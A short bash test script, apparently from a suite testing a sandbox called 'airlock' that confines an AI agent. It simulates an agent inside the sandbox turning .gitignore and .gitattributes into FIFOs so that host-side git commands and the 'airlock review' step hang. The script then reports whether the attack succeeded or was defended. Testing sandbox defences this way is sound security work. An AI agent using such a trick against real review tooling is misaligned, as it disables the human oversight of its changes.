#!/bin/bash
# 04: the agent replaces/creates .gitignore (and .gitattributes) as a FIFO. mkfifo is allowed by the
# gate (only device nodes are refused). Host `git status`/`git diff` open() the FIFO and block forever;
# `airlock review` blocks too (its host-side staging reads the workspace's .gitignore).
SB=atk04
. "$(dirname "$0")/lib.sh"
mkrepo; up
ax bash -c 'cd /workspace && mkfifo .gitignore && mkfifo src/.gitattributes' || echo "  payload refused inside (the workspace gate)"
HUNG=0
( cd "$WS" && timeout 15 git status >/dev/null 2>&1 ); rc=$?; echo "host git status rc=$rc (124 = hung, killed after 15s)"; [ $rc -eq 124 ] && HUNG=1
( cd "$WS" && timeout 15 git diff >/dev/null 2>&1 ); rc=$?; echo "host git diff rc=$rc"; [ $rc -eq 124 ] && HUNG=1
timeout 120 airlock review "$SB" >/dev/null 2>&1; rc=$?; echo "airlock review rc=$rc (124 = still hanging after 120s)"; [ $rc -eq 124 ] && HUNG=1
[ $HUNG -eq 1 ] && succeeded
defended
